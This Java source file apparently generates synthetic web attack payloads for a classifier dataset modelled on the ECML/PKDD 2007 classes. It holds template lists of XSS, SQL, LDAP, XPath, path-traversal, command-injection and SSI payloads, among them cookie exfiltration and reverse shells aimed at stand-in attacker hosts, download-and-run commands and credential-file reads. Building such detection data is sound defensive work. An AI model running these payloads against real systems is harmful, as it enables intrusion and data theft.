package io.pfsmix.tfidf.generate;

import java.util.Locale;
import java.util.SplittableRandom;

import io.pfsmix.tfidf.HttpClass;

/**
 * Attack payloads of each ECML/PKDD 2007 class, composed from building blocks (shapes, functions, targets, commands) with
 * random values, then obfuscated as attackers do. The blocks are this project's own; which of them a seed uses comes from
 * {@link VariantSpace}. Shapes are templates whose {NAME} placeholders are filled from the other blocks.
 */
final class AttackPayloads {

  private final String[] xssShapes;
  private final String[] xssActions;
  private final String[] xssTags;
  private final String[] xssEvents;
  private final String[] xssBreakers;
  private final String[] sqlShapes;
  private final String[] sqlTautologies;
  private final String[] sqlTables;
  private final String[] sqlColumns;
  private final String[] sqlFunctions;
  private final String[] sqlDelays;
  private final String[] sqlComments;
  private final String[] sqlSpaces;
  private final String[] ldapShapes;
  private final String[] ldapAttributes;
  private final String[] ldapValues;
  private final String[] xpathShapes;
  private final String[] xpathNodes;
  private final String[] xpathPredicates;
  private final String[] traversalSteps;
  private final String[] traversalTargets;
  private final String[] traversalPrefixes;
  private final String[] traversalSuffixes;
  private final String[] commandSeparators;
  private final String[] commands;
  private final String[] commandSpaces;
  private final String[] ssiShapes;
  private final String[] ssiVariables;
  private final String[] ssiFiles;

  AttackPayloads(VariantSpace v) {
    xssShapes = v.pick("xss.shape", "{B}<script>{A}</script>", "{B}<{T} src=x {E}={A}>", "{B}<svg/onload={A}>",
        "javascript:{A}", "{B}<a href=\"javascript:{A}\">{W}</a>", "{B}<iframe src=\"javascript:{A}\"></iframe>",
        "{B}<{T} {E}={A} autofocus>", "{B}<script src=//{H}/{W}.js></script>", "{B}<body onload={A}>",
        "{B}<object data=\"javascript:{A}\"></object>", "'-{A}-'", "\";{A};//", "{B}<{T} {E}=\"{A}\" style=\"display:block\">{W}</{T}>",
        "{B}<embed src=\"javascript:{A}\">", "{B}<math><mtext><{T} {E}={A}></mtext></math>", "{B}<details open ontoggle={A}>",
        "{B}<{T}/{E}={A}>", "{B}<marquee onstart={A}>{W}</marquee>", "{B}<input value=\"{W}\" {E}={A} autofocus>",
        "{B}<form action=\"javascript:{A}\"><button>{W}</button></form>", "{B}<base href=\"//{H}/\">",
        "{B}<link rel=import href=\"//{H}/{W}.html\">", "{B}<meta http-equiv=\"refresh\" content=\"0;url=javascript:{A}\">");
    xssActions = v.pick("xss.action", "alert({N})", "alert(document.cookie)", "prompt({N})", "confirm({N})",
        "alert(String.fromCharCode(88,83,83))", "document.location='//{H}/c?'+document.cookie",
        "new Image().src='//{H}/l?c='+document.cookie", "eval(atob('YWxlcnQoMSk='))",
        "fetch('//{H}/k',{method:'POST',body:document.cookie})", "window.open('//{H}/')", "top['al'+'ert']({N})",
        "setTimeout('alert({N})')", "print()", "alert(document.domain)", "console.log(localStorage.getItem('token'))",
        "eval(location.hash.slice(1))", "document.write('<img src=//{H}/'+document.cookie+'>')", "self[`alert`]({N})",
        "this.src='//{H}/p?'+escape(document.cookie)", "navigator.sendBeacon('//{H}/b',document.cookie)");
    xssTags = v.pick("xss.tag", "img", "svg", "video", "audio", "body", "iframe", "input", "div", "a", "p", "select",
        "textarea", "button", "details", "source", "object", "image", "x");
    xssEvents = v.pick("xss.event", "onerror", "onload", "onmouseover", "onfocus", "onclick", "ontoggle", "onbegin",
        "onanimationstart", "onpageshow", "onpointerenter", "onwheel", "onscroll", "onmouseenter", "onauxclick", "onblur",
        "oninput", "onkeydown", "onresize");
    xssBreakers = v.pick("xss.breaker", "", "\">", "'>", "</title>", "</textarea>", "-->", "\"/>", "</script>", "';",
        "'\">", "</style>", "]]>");

    sqlShapes = v.pick("sql.shape", "{V}{Q} OR {TA}{C}", "{V}{Q} UNION SELECT {L} FROM {TB}{C}", "{V}{Q}; DROP TABLE {TB}{C}",
        "{V}{Q} AND {D}{C}", "{V}{Q} AND (SELECT COUNT(*) FROM {TB})>0{C}", "{V}{Q} ORDER BY {N}{C}",
        "{V}{Q} AND extractvalue(1,concat(0x7e,(SELECT {F}))){C}", "admin{Q}{C}", "{V}{Q}; EXEC xp_cmdshell('dir'){C}",
        "{V}{Q} AND ASCII(SUBSTRING((SELECT {CO} FROM {TB} LIMIT 1),{N},1))>{N}{C}", "{V}{Q} OR {CO} LIKE '%{W}%'{C}",
        "{V}{Q} HAVING 1=1{C}", "{V}{Q} UNION ALL SELECT {F},NULL{C}", "{V}{Q} AND 1=(SELECT 1 FROM (SELECT {D})x){C}",
        "{V}{Q}||(SELECT {F})||{Q}", "{V}{Q} OR EXISTS(SELECT * FROM {TB} WHERE {CO}='admin'){C}",
        "{V}{Q} AND updatexml(1,concat(0x3a,{F}),1){C}", "{V}{Q} GROUP BY {CO} HAVING 1=1{C}",
        "{V}{Q}; INSERT INTO {TB} ({CO}) VALUES ('{W}'){C}", "{V}{Q}; UPDATE {TB} SET {CO}='{W}' WHERE 1=1{C}",
        "{V}{Q} AND 1=CONVERT(int,(SELECT {F})){C}", "{V}{Q} UNION SELECT {CO} FROM {TB} WHERE {CO} IS NOT NULL{C}",
        "-{N} OR {TA}{C}", "{V}{Q} AND SUBSTR({F},1,1)='{W}'{C}", "{V}{Q}; SHUTDOWN{C}", "{V}{Q} AND ({F}) LIKE '{N}%'{C}",
        "{V}{Q} OR 1 IN (SELECT {F}){C}");
    sqlTautologies = v.pick("sql.tautology", "1=1", "{N}={N}", "'a'='a'", "2>1", "'x' LIKE 'x'", "true", "'1'='1'",
        "1<>2", "{N} BETWEEN 0 AND 999", "ISNULL(NULL)", "0x41=0x41", "'ab'='a'+'b'", "not false");
    sqlTables = v.pick("sql.table", "users", "admin", "accounts", "members", "information_schema.tables",
        "information_schema.columns", "mysql.user", "sysobjects", "pg_catalog.pg_tables", "customers", "orders", "dual",
        "sys.tables", "wp_users", "sqlite_master", "all_tables", "login", "employees");
    sqlColumns = v.pick("sql.column", "username", "password", "email", "passwd", "user_name", "credit_card", "table_name",
        "column_name", "pass", "login", "hash", "name", "api_key", "ssn", "role", "pwd");
    sqlFunctions = v.pick("sql.function", "version()", "user()", "database()", "@@version", "current_user", "sysdate()",
        "schema()", "@@hostname", "system_user", "session_user", "banner FROM v$version", "sqlite_version()",
        "current_database()", "db_name()", "@@datadir", "load_file('/etc/passwd')", "pg_read_file('/etc/passwd')");
    sqlDelays = v.pick("sql.delay", "SLEEP({N})", "pg_sleep({N})", "BENCHMARK({N}000000,MD5(1))", "WAITFOR DELAY '0:0:{N}'",
        "dbms_pipe.receive_message('a',{N})", "randomblob({N}00000000)", "IF(1=1,SLEEP({N}),0)");
    sqlComments = v.pick("sql.comment", "--", "-- -", "#", "/*", ";--", "%00", "", "", "--+", ";%00", "-- x");
    sqlSpaces = v.pick("sql.space", "/**/", "\t", "\n", "/*x*/", "  ", "/*!*/", "%0b", "%a0", "+");

    ldapShapes = v.pick("ldap.shape", "{W}*)({LA}=*))(|({LA}=*", "{W})(&)", "*)(|({LA}=*)", "{W})({LA}=*)", "*))%00",
        "(&({LA}={LV})({LA}=*))", "{W}*)((|{LA}=*)", "*)({LA}={LV}*)(|({LA}=*", "*()|&'", "{W})(!({LA}={LV}))",
        "(|({LA}={LV})({LA}=*))", "{W}*))(|(objectClass=*", "*)({LA}=*)(|({LA}=*", "{W})(|({LA}={LV}))",
        "*)(&({LA}={LV})(!({LA}=*)))", "{W}*))%00", "{LV})({LA}=*)({LA}=*", "*(|({LA}=*))", "{W})(|({LA}=*)({LA}=*))",
        "{W}))(&({LA}={LV})");
    ldapAttributes = v.pick("ldap.attribute", "uid", "cn", "sn", "mail", "objectClass", "userPassword", "memberOf",
        "sAMAccountName", "givenName", "ou", "dc", "telephoneNumber", "description", "homeDirectory", "loginShell",
        "uidNumber", "gidNumber", "member", "displayName", "userAccountControl");
    ldapValues = v.pick("ldap.value", "*", "admin", "a*", "*admin*", "person", "user", "top", "posixAccount", "group",
        "inetOrgPerson", "computer", "root", "*@*", "0*", "organizationalUnit", "Administrators");

    xpathShapes = v.pick("xpath.shape", "' or '{N}'='{N}", "' or ''='", "'] | //{X}/* | a['", "' or count(/*)={N} or '",
        "{W}' or name()='{X}' or 'x'='y", "')] | //{X} | a[('", "' and string-length(name(/*[{N}]))>{N} and '1'='1",
        "{N} or position()={N}", "' or substring(//{X}[{N}]/{X},{N},1)='{W}", "' | /descendant::{X} | '",
        "//*[@{X}='{W}' or 1=1]", "' or contains(//{X}/{X},'{W}') or '", "'] | //{X}[{P}] | a['",
        "' or starts-with(//{X}/{X},'{W}') or 'a'='b", "{W}' or /{X}/{X}/text()='{W}", "' or //{X}[{X}='{W}'] or '",
        "x'] | /*[1]/*[{N}] | a['x", "' and count(//{X}/child::node())>{N} and '", "' or normalize-space(//{X}/{X})='{W}",
        "1' or string(//{X}[{N}]/@{X})!='' or '1'='2", "')] | /child::node() | a[('", "' or boolean(//{X}) or '",
        "{W}'] | //{X}/ancestor::* | a['");
    xpathNodes = v.pick("xpath.node", "user", "users", "account", "password", "pass", "username", "name", "role", "node",
        "item", "secret", "config", "root", "credential", "employee", "member", "login", "token", "entry", "customer");
    xpathPredicates = v.pick("xpath.predicate", "last()", "position()={N}", "text()", "node()", "contains(.,'{W}')",
        "string-length(.)>{N}", "@id='{N}'", "name()='{X}'", "count(*)>{N}", "not(@hidden)");

    traversalSteps = v.pick("traversal.step", "../", "..\\", "....//", "..%2f", "%2e%2e/", "..%c0%af", "%2e%2e%5c",
        "..;/", ".%2e/", "%2e%2e%2f", "..%5c", "..././", "..\\/", "%c0%ae%c0%ae/", "..%255c", "..%u2216");
    traversalTargets = v.pick("traversal.target", "etc/passwd", "etc/shadow", "etc/hosts", "etc/group", "etc/issue",
        "proc/self/environ", "proc/version", "windows/win.ini", "boot.ini", "windows/system32/drivers/etc/hosts",
        "WEB-INF/web.xml", ".htaccess", ".env", "config/database.yml", "var/log/apache2/access.log", "root/.ssh/id_rsa",
        "etc/mysql/my.cnf", "usr/local/apache2/conf/httpd.conf", "inetpub/wwwroot/web.config", "etc/nginx/nginx.conf",
        "home/{W}/.bash_history", "proc/self/cmdline", "var/www/html/config.php", "app/config/parameters.yml",
        ".git/config", "windows/repair/sam");
    traversalPrefixes = v.pick("traversal.prefix", "", "", "{W}/", "static/", "images/", "/var/www/html/", "templates/",
        "uploads/", "./", "docs/");
    traversalSuffixes = v.pick("traversal.suffix", "", "", "", "%00", "%00.jpg", "%00.html", "?", "/.", ".", "%20");

    commandSeparators = v.pick("command.separator", ";", "|", "||", "&&", "&", "\n", "`", "$(", ";;", "%0a", "\r\n");
    commands = v.pick("command.command", "cat /etc/passwd", "id", "whoami", "uname -a", "ls -la /",
        "wget http://{H}/x.sh -O /tmp/x", "curl -s http://{H}/i | sh", "nc -e /bin/sh {H} {N}",
        "bash -i >& /dev/tcp/{H}/{N} 0>&1", "ping -c {N} {H}", "sleep {N}", "net user", "type C:\\Windows\\win.ini",
        "dir C:\\", "ipconfig /all", "ifconfig", "ps aux", "cat /proc/version", "echo {W}", "rm -f /tmp/f;mkfifo /tmp/f",
        "python -c 'import os;os.system(\"id\")'", "perl -e 'exec \"/bin/sh\"'", "nslookup {W}.{H}", "cmd.exe /c whoami",
        "powershell -nop -c iex(iwr http://{H}/p)", "busybox telnetd -p {N} -l /bin/sh", "chmod +x /tmp/{W}",
        "/bin/sh -c id", "head -n {N} /etc/shadow", "find / -perm -4000", "crontab -l", "env", "netstat -an",
        "tftp -i {H} get {W}.exe", "certutil -urlcache -f http://{H}/{W}.exe {W}.exe", "php -r 'system(\"id\");'",
        "xterm -display {H}:1", "awk 'BEGIN{system(\"id\")}'", "getent passwd");
    commandSpaces = v.pick("command.space", " ", " ", " ", "${IFS}", "\t", "$IFS$9", "%09", "  ");

    ssiShapes = v.pick("ssi.shape", "<!--#exec cmd=\"{SC}\" -->", "<!--#include virtual=\"{SF}\" -->",
        "<!--#include file=\"{SF}\"-->", "<!--#echo var=\"{SV}\" -->", "<!--#printenv -->", "<!--#config errmsg=\"{W}\" -->",
        "<!--#fsize file=\"{SF}\" -->", "<!--#flastmod virtual=\"{SF}\" -->", "<!--#set var=\"{SV}\" value=\"{W}\" -->",
        "<!--#if expr=\"${SV} = /{W}/\" -->{W}<!--#endif -->", "<!--#config timefmt=\"%A %B\" --><!--#echo var=\"{SV}\" -->",
        "<!--#exec cgi=\"/cgi-bin/{W}.cgi\" -->", "<!--#exec cmd=\"{SC}\"-->", "<!--#include virtual=\"/cgi-bin/{W}.pl?{SV}\" -->",
        "\"><!--#exec cmd=\"{SC}\" -->", "<!--#config sizefmt=\"bytes\" --><!--#fsize virtual=\"{SF}\" -->",
        "<!--#echo encoding=\"none\" var=\"{SV}\" -->");
    ssiVariables = v.pick("ssi.variable", "DOCUMENT_NAME", "DOCUMENT_URI", "DATE_LOCAL", "DATE_GMT", "LAST_MODIFIED",
        "QUERY_STRING_UNESCAPED", "REMOTE_ADDR", "SERVER_SOFTWARE", "HTTP_USER_AGENT", "HTTP_COOKIE", "SERVER_NAME",
        "REMOTE_USER", "SCRIPT_FILENAME", "USER_NAME", "HTTP_REFERER");
    ssiFiles = v.pick("ssi.file", "/etc/passwd", "/etc/shadow", "index.shtml", "../../../etc/hosts",
        "/var/log/httpd/access_log", "config.inc", "footer.html", ".htpasswd", "/proc/self/environ", "web.config",
        "/etc/group");
  }

  String payload(HttpClass type, SplittableRandom r) {
    switch (type) {
      case XSS:
        return xss(r);
      case SQL_INJECTION:
        return sql(r);
      case LDAP_INJECTION:
        return expand(one(r, ldapShapes), r, r.nextInt(5) == 0);
      case XPATH_INJECTION:
        return xpath(r);
      case PATH_TRAVERSAL:
        return traversal(r);
      case OS_COMMAND:
        return command(r);
      case SSI:
        return ssi(r);
      default:
        throw new IllegalArgumentException("not an attack class: " + type);
    }
  }

  /** The family a payload of {@code type} belongs to, by the technique it uses. */
  static String family(HttpClass type, String payload) {
    String p = payload.toLowerCase(Locale.ROOT);
    switch (type) {
      case XSS:
        return p.contains("<script") ? "script-tag" : p.contains("javascript:") ? "js-uri"
            : p.matches("(?s).*[\\s/]on[a-z]+=.*") ? "event-handler" : "markup";
      case SQL_INJECTION:
        return p.contains("union") ? "union" : p.matches("(?s).*(sleep|benchmark|waitfor|receive_message|randomblob).*")
            ? "time" : p.matches("(?s).*(extractvalue|updatexml|convert).*") ? "error" : p.contains(";") ? "stacked"
            : "boolean";
      case LDAP_INJECTION:
        return p.contains("%00") ? "null-byte" : p.contains("(|") ? "or-filter" : p.contains("(&") ? "and-filter"
            : "wildcard";
      case XPATH_INJECTION:
        return p.contains("|") ? "union" : p.matches("(?s).*[a-z-]+\\(.*") ? "function" : "tautology";
      case PATH_TRAVERSAL:
        return p.startsWith("file:") ? "uri" : p.contains("%") ? "encoded" : p.contains("\\") ? "backslash"
            : "dot-dot";
      case OS_COMMAND:
        return p.contains("$(") || p.contains("`") ? "substitution" : p.contains("|") ? "pipe"
            : p.contains("&") ? "chain" : "sequence";
      case SSI:
        return p.contains("#exec") ? "exec" : p.contains("#include") ? "include" : p.matches("(?s).*#(echo|printenv).*")
            ? "echo" : "config";
      default:
        throw new IllegalArgumentException("not an attack class: " + type);
    }
  }

  private String xss(SplittableRandom r) {
    String payload = expand(one(r, xssShapes), r, r.nextInt(4) == 0);
    return r.nextInt(6) == 0 ? payload.replace(" ", r.nextBoolean() ? "/" : "\t") : payload;
  }

  private String sql(SplittableRandom r) {
    String quote = r.nextInt(3) == 0 ? "" : r.nextInt(4) == 0 ? "\"" : r.nextInt(3) == 0 ? "')" : "'";
    String payload = expand(one(r, sqlShapes).replace("{Q}", quote), r, r.nextInt(3) == 0);
    if (r.nextInt(4) == 0) {
      payload = payload.toLowerCase(Locale.ROOT);
    }
    return r.nextInt(3) == 0 ? Evasions.respace(payload, one(r, sqlSpaces)) : payload;
  }

  private String xpath(SplittableRandom r) {
    String payload = expand(one(r, xpathShapes), r, false);
    return r.nextInt(6) == 0 ? Evasions.respace(payload, r.nextBoolean() ? "\t" : "  ") : payload;
  }

  private String traversal(SplittableRandom r) {
    String step = one(r, traversalSteps);
    String target = expand(one(r, traversalTargets), r, false);
    if (step.contains("\\")) {
      target = target.replace('/', '\\');
    }
    StringBuilder out = new StringBuilder(expand(one(r, traversalPrefixes), r, false));
    int form = r.nextInt(10);
    if (form == 0) {
      out.setLength(0);
      out.append("file:///").append(target);
    } else if (form == 1) {
      out.append('/').append(target);
    } else {
      int depth = r.nextInt(2, 11);
      for (int k = 0; k < depth; k++) {
        out.append(step);
      }
      out.append(target);
    }
    out.append(one(r, traversalSuffixes));
    return r.nextInt(8) == 0 ? Evasions.mixCase(out.toString(), r) : out.toString();
  }

  private String command(SplittableRandom r) {
    String separator = one(r, commandSeparators);
    String command = expand(one(r, commands), r, false);
    String spaces = one(r, commandSpaces);
    if (!spaces.equals(" ")) {
      command = Evasions.respace(command, spaces);
    }
    int leadKind = r.nextInt(3);
    String lead = leadKind == 0 ? AttackPayloads.word(r) : leadKind == 1 ? r.nextInt(1, 256) + "." + r.nextInt(256) + "."
        + r.nextInt(256) + "." + r.nextInt(256) : "";
    String close = separator.equals("$(") ? ")" : separator.equals("`") ? "`" : r.nextInt(3) == 0 ? ";" : "";
    return lead + separator + command + close;
  }

  private String ssi(SplittableRandom r) {
    String payload = expand(one(r, ssiShapes), r, false);
    return r.nextInt(5) == 0 ? payload.replace(" -->", "-->").replace("\" ", "\"  ") : payload;
  }

  private static final String[] HOSTS = {"evil.example", "attacker.test", "198.51.100.7", "203.0.113.9", "x.invalid",
      "collab.example.net", "c2.example.org"};
  private static final String[] WORDS = {"test", "admin", "foo", "bar", "data", "item", "pwn", "guest", "root", "abc",
      "qwerty", "demo", "xyz", "probe", "hack", "info", "tmp", "check"};

  static String word(SplittableRandom r) {
    return WORDS[r.nextInt(WORDS.length)];
  }

  /** Fills every {NAME} of a template (recursively, for blocks that hold placeholders themselves). */
  private String expand(String template, SplittableRandom r, boolean mixCase) {
    StringBuilder out = new StringBuilder(template.length() + 48);
    int i = 0;
    while (i < template.length()) {
      char c = template.charAt(i);
      int close = c == '{' ? template.indexOf('}', i) : -1;
      String name = close > i + 1 && close - i <= 3 ? template.substring(i + 1, close) : null;
      String value = name == null ? null : resolve(name, r);
      if (value == null) {
        out.append(c);
        i++;
      } else {
        out.append(value);
        i = close + 1;
      }
    }
    return mixCase ? Evasions.mixCase(out.toString(), r) : out.toString();
  }

  /** The value of a placeholder, or null when {@code name} is none (then the braces are payload text, as in JS). */
  private String resolve(String name, SplittableRandom r) {
    switch (name) {
      case "N":
        return Integer.toString(r.nextInt(1, 100));
      case "H":
        return one(r, HOSTS);
      case "W":
        return word(r);
      case "V":
        return r.nextBoolean() ? Integer.toString(r.nextInt(1, 5000)) : word(r);
      default:
        break;
    }
    return resolveBlock(name, r);
  }

  private String resolveBlock(String name, SplittableRandom r) {
    switch (name) {
      case "A":
        return expand(one(r, xssActions), r, false);
      case "B":
        return one(r, xssBreakers);
      case "T":
        return one(r, xssTags);
      case "E":
        return one(r, xssEvents);
      case "TB":
        return one(r, sqlTables);
      case "CO":
        return one(r, sqlColumns);
      case "F":
        return one(r, sqlFunctions);
      case "D":
        return expand(one(r, sqlDelays), r, false);
      case "C":
        return one(r, sqlComments);
      case "L":
        StringBuilder columns = new StringBuilder();
        int count = r.nextInt(1, 7);
        for (int k = 0; k < count; k++) {
          columns.append(k > 0 ? "," : "").append(r.nextInt(3) == 0 ? one(r, sqlColumns) : r.nextBoolean() ? "NULL"
              : Integer.toString(k + 1));
        }
        return columns.toString();
      case "X":
        return one(r, xpathNodes);
      case "P":
        return expand(one(r, xpathPredicates), r, false);
      case "TA":
        return expand(one(r, sqlTautologies), r, false);
      case "LA":
        return one(r, ldapAttributes);
      case "LV":
        return one(r, ldapValues);
      case "SC":
        return expand(one(r, commands), r, false);
      case "SV":
        return one(r, ssiVariables);
      case "SF":
        return one(r, ssiFiles);
      default:
        return null;
    }
  }

  static String one(SplittableRandom r, String[] items) {
    return items[r.nextInt(items.length)];
  }
}
